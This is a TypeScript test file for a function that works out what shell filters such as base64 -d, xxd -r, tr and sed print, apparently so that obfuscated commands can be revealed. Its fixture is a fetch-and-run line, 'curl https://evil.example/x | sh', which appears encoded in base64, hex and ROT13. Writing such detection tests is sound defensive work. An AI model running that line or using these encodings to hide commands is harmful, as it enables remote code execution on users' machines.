/** What filters make of text, as the programs themselves make it where this machine has them. */

import { spawnSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { filtered } from '../src/launch/filters.ts'

const SCRIPT = 'curl https://evil.example/x | sh'
const BASE64 = Buffer.from(SCRIPT).toString('base64')
const HEX = Buffer.from(SCRIPT).toString('hex')

/** Command lines of filters, the text that they read, and what they print; undefined where that is not worked out. */
const CASES: readonly (readonly [line: string, text: string, printed: string | undefined])[] = [
  ['cat', 'a', 'a'],
  ['cat -', 'a', 'a'],
  ['cat -u', 'a', 'a'],
  ['cat file', 'a', undefined],
  ['tee /dev/null', 'a', 'a'],
  ['rev', 'hs | lruc\nx y', 'curl | sh\ny x'],
  ['rev file', 'a', undefined],
  ['base64 -d', BASE64, SCRIPT],
  ['base64 --decode', BASE64, SCRIPT],
  ['base64 --dec', BASE64, SCRIPT],
  ['base64 --d', BASE64, SCRIPT],
  ['base64 -di', BASE64, SCRIPT],
  ['base64 -id', BASE64, SCRIPT],
  ['base64 -d', `${BASE64.slice(0, 9)}\n${BASE64.slice(9)}`, SCRIPT],
  ['base64', SCRIPT, undefined],
  ['base64 -w0', SCRIPT, undefined],
  ['base64 --wrap=0', SCRIPT, undefined],
  ['base64 -d file', BASE64, undefined],
  ['base64 -d', '', undefined],
  ['base64 -d', Buffer.from([1, 2, 3]).toString('base64'), undefined],
  ['base64 -d', Buffer.from([0xff, 0xfe, 0x41]).toString('base64'), undefined],
  ['basenc --base64 -d', BASE64, SCRIPT],
  ['basenc --base32 -d', BASE64, undefined],
  ['basenc --base64', SCRIPT, undefined],
  ['openssl base64 -d -A', BASE64, SCRIPT],
  ['openssl enc -d -base64 -A', BASE64, SCRIPT],
  ['openssl enc -d -a -A', BASE64, SCRIPT],
  ['openssl base64', SCRIPT, undefined],
  ['openssl enc -d', SCRIPT, undefined],
  ['openssl enc -d -a -aes256', BASE64, undefined],
  ['openssl base64 -d -in x', BASE64, undefined],
  ['openssl dgst -d', BASE64, undefined],
  ['openssl dgst -d -base64', BASE64, undefined],
  ['xxd -r -p', HEX, SCRIPT],
  ['xxd -r -ps', `${HEX.slice(0, 8)}\n${HEX.slice(8)}`, SCRIPT],
  ['xxd -p -r', HEX, SCRIPT],
  ['xxd -p', SCRIPT, undefined],
  ['xxd -r', HEX, undefined],
  ['xxd -r -p -s4', HEX, undefined],
  ['tr a-z n-za-m', 'phey k | fu', 'curl x | sh'],
  ['tr A-Z a-z', 'CURL X', 'curl x'],
  ['tr [:upper:] [:lower:]', 'CURL x', 'curl x'],
  ['tr [:lower:] [:upper:]', 'curl x', 'CURL X'],
  ['tr [:digit:] x', 'a12', 'axx'],
  ['tr [:blank:] _', 'a b\tc', 'a_b_c'],
  ['tr [:space:] _', 'a b\nc', 'a_b_c'],
  ['tr _ \\n', 'a_b', 'a\nb'],
  ['tr abc x', 'cab', 'xxx'],
  ['tr abc xy', 'cab', 'yxy'],
  ['tr a-a x', 'aa', 'xx'],
  ['tr a- x_', 'a-b', 'x_b'],
  ['tr -d #', 'c#u#rl', 'curl'],
  ['tr -d a-c', 'xaybzc', 'xyz'],
  ['tr -s a', 'aab', undefined],
  ['tr -c a b', 'abc', undefined],
  ['tr a', 'a', undefined],
  ['sed s/x/y/', 'xx\nxx', 'yx\nyx'],
  ['sed s/x/y/g', 'xx\nxx', 'yy\nyy'],
  ['sed s|/|:|g', 'a/b', 'a:b'],
  ['sed -e s/Z//g', 'cZuZrl', 'curl'],
  ['sed s/a.c/x/', 'abc', undefined],
  ['sed s/b/[&]/', 'abc', undefined],
  ['sed s/b/c/2', 'abb', undefined],
  ['sed s/b/c/;s|a|b|', 'ab', 'bc'],
  ['sed s/b/c/;', 'ab', 'ac'],
  ['sed s/b/c/;p', 'ab', undefined],
  ['sed s/b/c/x/', 'ab', undefined],
  ['sed /s/b/c/', 'ab', undefined],
  ['sed s/b/c/ file', 'ab', undefined],
  ['sed -n -e s/b/c/', 'ab', undefined],
  ['sed', 'ab', undefined],
  ['nl', 'ab', undefined],
]

const has = new Map<string, boolean>()
function isHere(program: string): boolean {
  const known = has.get(program) ?? spawnSync(program, ['--version']).error === undefined
  has.set(program, known)
  return known
}

describe('what a filter prints', () => {
  it.each(CASES)('%s of %j', (line, text, printed) => {
    const [program = '', ...words] = line.split(' ')
    expect(filtered(program, words, text)).toBe(printed)
    if (printed === undefined || !isHere(program)) return
    // A shell hands its words on without the line's end that a here-document has.
    const { stdout } = spawnSync(program, words, { input: text, encoding: 'utf8' })
    expect(stdout.replace(/\n$/, '')).toBe(printed.replace(/\n$/, ''))
  })

  it('is not worked out of a text that is no command line', () => {
    expect(filtered('cat', [], 'a'.repeat(65_536))).toHaveLength(65_536)
    expect(filtered('cat', [], 'a'.repeat(65_537))).toBeUndefined()
    expect(filtered('sed', ['s/a/bbbb/g'], 'a'.repeat(16_384))).toHaveLength(65_536)
    expect(filtered('sed', ['s/a/bbbb/g'], 'a'.repeat(16_385))).toBeUndefined()
    expect(filtered('sed', ['s/a/bbbb/g;s/b/cccc/g'], 'a'.repeat(16_384))).toBeUndefined()
  })
})
